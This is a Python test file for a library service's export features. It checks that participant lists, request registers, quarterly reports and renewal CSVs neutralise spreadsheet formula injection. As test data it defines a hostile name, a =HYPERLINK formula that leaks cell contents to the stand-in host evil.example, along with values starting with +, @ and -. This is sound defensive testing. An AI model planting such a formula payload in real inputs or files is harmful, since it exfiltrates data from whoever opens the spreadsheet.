"""Issue #18, finding 1: a reader who signs up as `=HYPERLINK(…)` must not become a live
formula in any file staff open in Excel. Each export is produced from hostile data and
reopened: XLSX text cells are strings (never formulas), CSV text starting with = + - @, tab
or CR begins with an apostrophe, numbers stay numbers and the text is otherwise untouched."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from storage import people
from storage.circulation.base import Patron
from storage.circulation.local import LocalSystem
from storage.circulation.local_import import export_renewals, import_loans
from storage.consultations import requests as desk
from storage.consultations.models import RequestStatus
from storage.consultations.register import build_register, register_csv, register_xlsx
from storage.db import Database
from storage.events import registrations
from storage.events.export import participants, to_csv, to_xlsx
from storage.reports import document
from tests.conftest import make_config
from tests.test_events_bot import add_event
from tests.test_reports import History, make_report, msk

MSK = ZoneInfo("Europe/Moscow")
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Анна")'
ORGANISATIONS = ("+7 НКО «Плюс»", "@НКО «Собака»", "-НКО «Минус»")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def reopen(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def texts_of(book: Workbook) -> list[object]:
    """Every value of every sheet, after checking that no cell is a formula."""
    values: list[object] = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    return values


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def csv_values(data: bytes | str, delimiter: str = ";") -> list[str]:
    """Every value of a CSV file, after checking that none would start a formula (a negative
    number is a number to Excel, not a formula)."""
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    values = [v for row in csv.reader(io.StringIO(text), delimiter=delimiter) for v in row]
    for value in values:
        assert not value.startswith(TRIGGERS) or is_number(value), value
    return values


async def test_participants_of_a_hostile_reader_are_text_in_xlsx_and_csv(
    database: Database,
) -> None:
    event_id = await add_event(
        database,
        seats=10,
        questions='[{"text": "-Тема?", "required": false}]',
    )
    anna = await people.resolve(database, "telegram", "7001")
    await registrations.register(
        database,
        event_id,
        anna.id,
        name=HOSTILE,
        organisation=ORGANISATIONS[0],
        contact="+79991234567",
        answers=[{"question": "-Тема?", "answer": "@всем =1+1"}],
    )
    for number, organisation in enumerate(ORGANISATIONS[1:], start=7002):
        someone = await people.resolve(database, "telegram", str(number))
        await registrations.register(
            database, event_id, someone.id, name="Борис", organisation=organisation
        )
    sheet = await participants(database, event_id, MSK)

    book = reopen(to_xlsx(sheet, "=Открытое общение"))
    values = texts_of(book)
    ws = book.active
    assert ws is not None
    assert ws["B3"].value == HOSTILE  # shown as typed, not otherwise changed
    assert ws["B3"].data_type == "s"
    assert ws["A3"].value == 1  # numbers stay numbers
    assert isinstance(ws["F3"].value, datetime)  # and dates dates
    assert {*ORGANISATIONS, "+79991234567", "@всем =1+1", "-Тема?"} <= set(values)
    assert ws["A1"].value == "=Открытое общение"

    values = csv_values(to_csv(sheet))
    assert "'" + HOSTILE in values
    assert {"'" + o for o in ORGANISATIONS} <= set(values)
    assert {"'+79991234567", "'@всем =1+1", "'-Тема?", "1"} <= set(values)


async def new_request(db: Database, user_id: int, name: str, organisation: str) -> int:
    owner = await people.resolve(db, "telegram", str(user_id))
    request = await desk.create(
        db,
        person_id=owner.id,
        platform="telegram",
        chat_id=str(user_id),
        language="ru",
        topic="legal",
        expertise=False,
        question="=1+1 и ещё вопрос",
        name=name,
        organisation=organisation,
        contact=None,
        contact_time=None,
    )
    return request.id


async def test_requests_register_of_a_hostile_requester_is_text(database: Database) -> None:
    await new_request(database, 7011, HOSTILE, ORGANISATIONS[1])
    await new_request(database, 7012, "-Борис", ORGANISATIONS[2])
    register = await build_register(database, MSK)

    book = reopen(register_xlsx(register, "Реестр запросов"))
    values = texts_of(book)
    ws = book.active
    assert ws is not None
    assert ws["E3"].value == f"{HOSTILE}, {ORGANISATIONS[1]}"
    assert ws["D3"].value == "=1+1 и ещё вопрос"
    assert ws["E4"].value == f"-Борис, {ORGANISATIONS[2]}"
    assert isinstance(ws["B3"].value, datetime)
    assert "=1+1 и ещё вопрос" in values

    values = csv_values(register_csv(register))
    assert f"'{HOSTILE}, {ORGANISATIONS[1]}" in values
    assert "'=1+1 и ещё вопрос" in values
    assert f"'-Борис, {ORGANISATIONS[2]}" in values


async def hostile_quarter(database: Database) -> None:
    """A quarter where a hostile reader came to a seminar with a «+» organisation and asked a
    question; the seminar's own title (staff-typed or imported) starts with «=»."""
    async with database.transaction() as session:
        h = History(session)
        anna = await h.person(1, HOSTILE, ORGANISATIONS[0])
        boris = await h.person(2, "-Борис", ORGANISATIONS[1])
        seminar = await h.event("=Семинар по грантам", "training", msk(2026, 7, 10, 15), "central")
        h.place(seminar, anna, came=True)
        h.place(seminar, boris, came=True)
        await h.request(
            anna,
            "legal",
            msk(2026, 7, 2, 10),
            status=RequestStatus.RESOLVED,
            closed=msk(2026, 7, 4, 10),
            rating=5,
        )


async def test_quarterly_report_of_a_hostile_reader_is_text(
    database: Database, tmp_path: Path
) -> None:
    await hostile_quarter(database)
    report = await make_report(database, make_config(tmp_path))

    book = reopen(document.to_xlsx(report))
    values = texts_of(book)
    requests = book["Запросы"]
    assert requests["E3"].value == f"{HOSTILE}, {ORGANISATIONS[0]}"
    trainings = book["Обучающие мероприятия"]
    assert trainings["A3"].value == "=Семинар по грантам"
    assert trainings["D3"].value == "; ".join(ORGANISATIONS[:2])
    assert trainings["H3"].value == 2
    assert "=Семинар по грантам" in values  # the chart's table on «Графики» too
    assert isinstance(book["Показатели"]["B3"].value, int)

    files = document.to_csv_files(report)
    assert f"'{HOSTILE}, {ORGANISATIONS[0]}" in csv_values(files["Запросы.csv"])
    assert "'=Семинар по грантам" in csv_values(files["Обучающие мероприятия.csv"])
    assert "'=Семинар по грантам" in csv_values(files["График - участники.csv"])
    for name, content in files.items():
        if name.endswith(".csv"):
            csv_values(content)


async def test_renewals_export_of_a_hostile_title_is_text(
    database: Database, tmp_path: Path
) -> None:
    config = make_config(tmp_path, library_system={"kind": "local"})
    today = datetime.now(UTC).date()
    loans = tmp_path / "loans.csv"
    with loans.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(("ticket", "barcode", "title", "issued", "due"))
        writer.writerow(
            ("1001", "-B1", HOSTILE, f"{today - timedelta(days=10)}", f"{today + timedelta(2)}")
        )
    await import_loans(database, loans)
    system = LocalSystem(database, config.library_system, today=lambda: today)
    patron = Patron("1001", "1001")
    [loan] = await system.loans(patron)
    await system.renew(patron, loan)

    out = io.StringIO()
    assert await export_renewals(database, out) == 1
    values = csv_values(out.getvalue(), delimiter=",")
    assert "'" + HOSTILE in values
    assert "'-B1" in values
    assert "1" in values  # the renewals count, a number as it was
    assert date.fromisoformat(values[values.index("'-B1") + 2]) < today
